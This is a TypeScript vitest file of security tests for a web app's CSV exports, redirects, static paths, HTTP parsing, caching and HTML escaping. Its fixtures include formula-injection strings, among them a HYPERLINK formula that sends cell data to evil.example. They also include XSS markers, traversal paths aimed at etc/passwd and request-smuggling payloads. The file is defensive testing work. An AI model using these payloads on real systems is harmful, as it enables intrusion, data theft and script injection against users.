import { randomUUID } from 'node:crypto'
import net from 'node:net'
import { parse } from 'csv-parse/sync'
import { beforeAll, expect, test } from 'vitest'
import { csvCell, withoutQuote } from '../../src/catalogue/import/csv.ts'
import { testStore } from '../../src/storage/testing/index.ts'
import { type Caller, PASSWORD, testServer } from '../server/app.ts'
import { form } from '../server/form.ts'
import { fillEveryTable } from '../store/fill.ts'
import { INSIDE, sendAs } from './sound.ts'

const store = testStore({ connections: 2 })
const server = testServer(store, { PUBLIC_URL: 'https://homes.example' })
const MARK = '<img src=x onerror=alert(1)>"\'><script>alert(1)</script>'
const callers = {} as Record<'nobody' | 'visitor' | 'member' | 'agent' | 'coach' | 'admin', Caller>

beforeAll(async () => {
  await fillEveryTable(store.pool, 'Asha')
  callers.nobody = server.nobody()
  callers.visitor = await server.visitor()
  for (const who of ['member', 'agent', 'coach', 'admin'] as const) callers[who] = await server.account(who)
}, 120_000)

const FORMULAS = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '+1+cmd',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(A1)',
  '=HYPERLINK("http://evil.example?x="&A1)',
  '-',
  '=',
]
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/

test('no cell of an exported file begins a formula, and an import reads what was there', () => {
  for (const text of FORMULAS) {
    const [[cell, next]] = parse(`${csvCell(text)},next\r\n`) as [[string, string]]
    expect([RUNS.test(cell), withoutQuote(cell), next], JSON.stringify(text)).toEqual([false, text, 'next'])
    const [[second]] = parse(`${csvCell(`a,"${text}`)}\r\n`) as [[string]]
    expect(second).toBe(`a,"${text}`)
  }
  for (const number of ['-5', '-5.25', '5']) expect(csvCell(number)).toBe(number)
  for (const column of ['a;=1+1', 'a|=1', 'a\t=1'])
    expect(csvCell(column), 'other separators split nothing').toMatch(/^".*"$/)
})

test('every file of tables that is given out: names of people, listings and refused rows run nowhere', async () => {
  const { rows } = await store.pool.query<{ id: string }>('select id from accounts')
  const tries = FORMULAS.slice(0, 5)
  for (const [at, { id }] of rows.entries())
    await store.pool.query('update accounts set name = $1 where id = $2', [tries[at % 5], id])
  await store.pool.query('update listings set name = $1', [`=cmd|'/c calc'!A1`])
  const bad = `code,name,price\r\n=1+1,"=cmd|'/c calc'!A1",@SUM(A1)\r\n`
  const sent = form({ name: 'file', value: bad, file: 'catalogue.csv', type: 'text/csv' })
  const imported = await callers.admin.call('POST', '/api/admin/imports', sent)
  const ids = (
    await store.pool.query<{ id: string }>('select id from catalogue_imports union all select id from posting_imports')
  ).rows
  const paths = [
    '/api/admin/audit.csv',
    ...server.app.routeTable.flatMap(({ method, url }) =>
      method === 'GET' && /export|csv/.test(url) && /^\/api\/admin/.test(url) && !/[:*]/.test(url)
        ? [url, `${url}?format=csv`]
        : [],
    ),
    ...ids.map(({ id }) => `/api/admin/imports/${id}/refused`),
  ]
  let files = 0
  for (const path of new Set(paths)) {
    const answer = await callers.admin.call('GET', path)
    if (!String(answer.headers['content-type']).startsWith('text/csv')) continue
    files++
    expect(answer.headers, path).toMatchObject({
      'content-disposition': expect.stringMatching(/^attachment/),
      'content-security-policy': "default-src 'none'; sandbox",
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
    })
    const cells = (parse(answer.text, { bom: true, relax_column_count: true }) as string[][]).flat()
    expect(
      cells.filter(cell => RUNS.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)),
      path,
    ).toEqual([])
  }
  expect(files, imported.text.slice(0, 200)).toBeGreaterThanOrEqual(3)
})

test('no answer leads to where a visitor says: not by an address, not by the name that they asked for', async () => {
  const evil = 'https://evil.example/'
  const ways = [
    'next',
    'return',
    'returnTo',
    'redirect',
    'redirect_uri',
    'url',
    'callbackURL',
    'continue',
    'state',
    'code',
    'to',
  ]
  const query = Object.fromEntries(ways.map(name => [name, evil]))
  for (const { method, url } of server.app.routeTable.filter(({ method }) => method === 'GET')) {
    if (/live/.test(url)) continue
    const path = url.replace(/:[a-z]+|\*/gi, 'x')
    for (const headers of [
      {} as Record<string, string>,
      { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'http' },
    ]) {
      const answer = await callers.admin.call('GET', path, { query, headers })
      expect(String(answer.headers.location ?? '/'), `${method} ${url}`).toMatch(/^\/(?![/\\])/)
      if (!/openapi|docs|metrics/.test(url)) expect(String(answer.headers.location ?? ''), url).not.toContain('evil')
    }
  }
  for (const path of [
    '//evil.example',
    '/\\evil.example',
    '/%5cevil.example',
    '/%2f%2fevil.example/..',
    '/.//evil.example',
    '/first-start//evil.example',
  ]) {
    const { status, headers } = await server.nobody().call('GET', path, { headers: { accept: 'text/html' } })
    expect([status < 300 || status >= 400 || /^\/(?![/\\])/.test(String(headers.location)), path]).toEqual([true, path])
  }
})

test('links that are sent are made of the public address alone, whatever name was asked for', async () => {
  const headers = {
    host: 'evil.example',
    'x-forwarded-host': 'evil.example',
    forwarded: 'host=evil.example',
    origin: 'https://homes.example',
  }
  const { url } = (await callers.admin.expect(200, 'POST', '/api/admin/invitations', {
    json: { role: 'member', email: 'host@example.com' },
    headers,
  })) as { url: string }
  expect(url).toMatch(/^https:\/\/homes\.example\//)
  for (const [path, json] of [
    ['/api/account', { name: 'Ana', email: 'host-2@example.com', password: PASSWORD }],
    ['/api/password-resets', { email: 'admin@example.com' }],
  ] as const) {
    const answer = await server.nobody().call('POST', path, { json, headers })
    expect(answer.text + JSON.stringify(answer.headers), path).not.toContain('evil.example')
  }
  const { rows } = await store.pool.query<{ text: string }>(
    `select t::text as text from reminders t union all select t::text from account_mails t`,
  )
  expect(rows.filter(({ text }) => text.includes('evil.example'))).toEqual([])
})

test('no spelling of a path leads out of a folder', async () => {
  const up = [
    '..',
    '%2e%2e',
    '.%2e',
    '%252e%252e',
    '..%00',
    '%c0%ae%c0%ae',
    '..;',
    '..%5c',
    '.%00.',
    '%uff0e%uff0e',
    '．．',
    '..%ef%bc%8f',
  ]
  const slash = ['/', '%2f', '%5c', '\\', '%252f', '//']
  const roots = ['/', '/assets/', '/career/', '/api/pictures/', '/api/feeds/', '/api/files/', '/docs/', '/docs/static/']
  for (const root of roots)
    for (const dots of up)
      for (const between of slash)
        for (const file of ['package.json', `etc${between}passwd`]) {
          const path = root + `${dots}${between}`.repeat(6) + file
          const answer = await server.nobody().call('GET', path)
          expect(answer.status, path).toBeLessThan(500)
          expect(answer.text, path).not.toMatch(/root:x:|"devDependencies"/)
          if (answer.status < 300) expect(String(answer.headers['content-type']), path).toMatch(/^text\/html/)
        }
})

/** All that comes back to these bytes, and whether the server ended the connection itself. */
function speak(bytes: string): Promise<{ text: string; closed: boolean }> {
  const { hostname, port } = new URL(server.address)
  return new Promise(resolve => {
    let text = ''
    const socket = net.connect(Number(port), hostname, () => socket.write(bytes, 'latin1'))
    const done = (closed: boolean) => {
      socket.destroy()
      resolve({ text, closed })
    }
    socket.setTimeout(10_000, () => done(false))
    socket.on('data', chunk => (text += chunk))
    socket.on('close', () => done(true))
    socket.on('error', () => done(true))
  })
}

const SECOND = 'GET /api/second-request HTTP/1.1\r\nHost: x\r\n\r\n'
const post = (headers: string[], body: string) =>
  `POST /api/sales/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${headers.map(line => `${line}\r\n`).join('')}\r\n${body}`

test('what two servers could read in two ways is refused, and the connection is closed with what is left on it', {
  timeout: 120_000,
}, async () => {
  const ways: [string, string][] = [
    ['a length and chunks', post(['Content-Length: 5', 'Transfer-Encoding: chunked'], `0\r\n\r\n${SECOND}`)],
    ['chunks and a length', post(['Transfer-Encoding: chunked', 'Content-Length: 5'], `0\r\n\r\n${SECOND}`)],
    ['two lengths', post(['Content-Length: 2', 'Content-Length: 60'], `{}${SECOND}`)],
    ['two lengths in one', post(['Content-Length: 2, 60'], `{}${SECOND}`)],
    ['a length with a sign', post(['Content-Length: +2'], `{}${SECOND}`)],
    ['a length below nothing', post(['Content-Length: -1'], SECOND)],
    ['a length in hexadecimal', post(['Content-Length: 0x2'], `{}${SECOND}`)],
    ['a length beyond all', post(['Content-Length: 99999999999999999999999'], SECOND)],
    [
      'a header that goes on in the next line',
      post(['X-A: b', ' Content-Length: 60', 'Content-Length: 2'], `{}${SECOND}`).replace(
        'X-A: b\r\n',
        'Transfer-Encoding:\r\n chunked\r\n',
      ),
    ],
    ['a space before the colon', post(['Content-Length : 60', 'Transfer-Encoding: chunked'], `0\r\n\r\n${SECOND}`)],
    ['chunks by another name', post(['Transfer-Encoding: xchunked'], `0\r\n\r\n${SECOND}`)],
    ['chunks named twice', post(['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], `0\r\n\r\n${SECOND}`)],
    ['a chunk of no number', post(['Transfer-Encoding: chunked'], `zz\r\n{}\r\n0\r\n\r\n${SECOND}`)],
    ['a chunk that is longer than it says', post(['Transfer-Encoding: chunked'], `1\r\n{}\r\n0\r\n\r\n${SECOND}`)],
    ['a chunk beyond all', post(['Transfer-Encoding: chunked'], `fffffffffffffffff\r\n{}\r\n0\r\n\r\n${SECOND}`)],
    ['a line that ends without its feed', `GET / HTTP/1.1\r\nHost: x\r\nX: a\rContent-Length: 60\r\n\r\n${SECOND}`],
    ['a NUL in a header', `GET / HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n\r\n${SECOND}`],
    ['two names of a host', `GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\nHost: evil.example\r\n\r\n${SECOND}`],
    ['no host', `GET / HTTP/1.1\r\n\r\n${SECOND}`],
    ['another version', `GET / HTTP/9.9\r\nHost: x\r\n\r\n${SECOND}`],
  ]
  const answers = await Promise.all(ways.map(async ([shown, bytes]) => ({ shown, ...(await speak(bytes)) })))
  for (const { shown, text, closed } of answers) {
    const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 400)
    expect([status, shown]).toEqual([expect.toSatisfy((one: number) => one >= 400 && one < 500), shown])
    expect([closed, shown], text.slice(0, 200)).toEqual([true, shown])
    expect(text.match(/HTTP\/1\.1 \d{3}/g)?.length ?? 1, `${shown}: the second request was read`).toBe(1)
    expect(text, shown).not.toMatch(INSIDE)
  }
})

test('what is said of a person is kept by no cache: every route of the API, as everybody', {
  timeout: 240_000,
}, async () => {
  /** What everybody reads alike, and what is bound to its tag and asked for anew each time. */
  const MAY: Record<string, RegExp> = {
    '/api/pictures/:id': /^public, max-age=31536000, immutable$/,
    '/api/files/:id/content': /^private, no-cache$/,
    '/api/config': /./,
  }
  const wrong: string[] = []
  for (const { method, url } of server.app.routeTable) {
    if (!url.startsWith('/api/') || url in MAY || /live/.test(url)) continue
    for (const who of ['nobody', 'visitor', 'member', 'admin'] as const) {
      const path = url.replace(/:[a-z]+|\*/gi, '019f0000-0000-7000-8000-000000000000')
      const { status, headers } = await sendAs(
        callers[who],
        method,
        path,
        method === 'GET' ? {} : { json: { nonsense: true } },
      )
      const cache = String(headers['cache-control'] ?? '')
      if (!/no-store/.test(cache)) wrong.push(`${method} ${url} as ${who}: ${status} ${cache}`)
      const may = String(headers['access-control-allow-origin'] ?? '')
      if (may) wrong.push(`${method} ${url} as ${who}: open to ${may}`)
    }
  }
  expect(wrong).toEqual([])
})

test('what people leave is text in every page that the server writes', async () => {
  const ana = await server.visitor()
  await ana.say(`my name is ${MARK}`)
  await ana.say(`${MARK} 2 bhk in Whitefield`)
  await ana.call('POST', '/api/site-visits', { json: { contact: { name: MARK, phone: '+919876500000' }, notes: MARK } })
  await ana.call('POST', '/api/callbacks', {
    json: { contact: { name: MARK, phone: '+919876500000' }, notes: MARK, reason: 'other' },
  })
  await ana.call('POST', '/api/files', form({ name: 'file', value: MARK.replace('<img', 'x <img'), file: 'x.txt' }))
  await ana.call('POST', '/api/resumes', { json: { name: MARK, text: MARK } })
  const enrolment = (await ana.call('POST', '/api/enrolments', { json: { programme: 'ps101-express' } })).json as {
    id: string
  }
  await ana.call('PUT', `/api/enrolments/${enrolment.id}/answers/1`, {
    json: { text: `${MARK} `.repeat(5), final: true },
  })
  const experiment = (await ana.call('POST', `/api/enrolments/${enrolment.id}/experiments`, { json: { title: MARK } }))
    .json as { id?: string }
  if (experiment.id) await ana.call('POST', `/api/experiments/${experiment.id}/actions`, { json: { label: MARK } })
  const talk = (await ana.call('POST', '/api/conversations', { json: { desk: 'career' } })).json as { id: string }
  await ana.call('POST', `/api/conversations/${talk.id}/messages`, { json: { id: randomUUID(), text: MARK } })

  const written: string[] = []
  const fill = (url: string) => url.replace(':id', enrolment.id).replace(/:[a-z]+|\*/gi, encodeURIComponent(MARK))
  for (const { url } of server.app.routeTable.filter(({ method, url }) => method === 'GET' && !/live/.test(url)))
    for (const more of ['', '?format=html', '?format=md', `?q=${encodeURIComponent(MARK)}`])
      for (const accept of ['text/html']) {
        const answer = await sendAs(ana, 'GET', `${fill(url)}${more}`, { headers: { accept } })
        const type = String(answer.headers['content-type'] ?? '')
        if (!/html|xml|svg|javascript/.test(type)) continue
        if (answer.text.includes('alert(1)')) written.push(url)
        expect(answer.text, `${url}${more}`).not.toMatch(/<img src=x|<script>alert/)
        // Between quotes as well: no attribute is left by what somebody wrote.
        expect(answer.text, `${url}${more}`).not.toMatch(/"'><|onerror=alert\(1\)>/)
      }
  expect(new Set(written), 'the export of a person holds it, escaped').toContain('/api/me/export')
  const nothing = await server
    .nobody()
    .call('GET', `/${encodeURIComponent(MARK)}`, { headers: { accept: 'text/html' } })
  expect(nothing.text).not.toMatch(/<img src=x|<script>alert/)
  expect(String(nothing.headers['content-type'])).toMatch(/^(text\/html|application\/problem\+json)/)
})
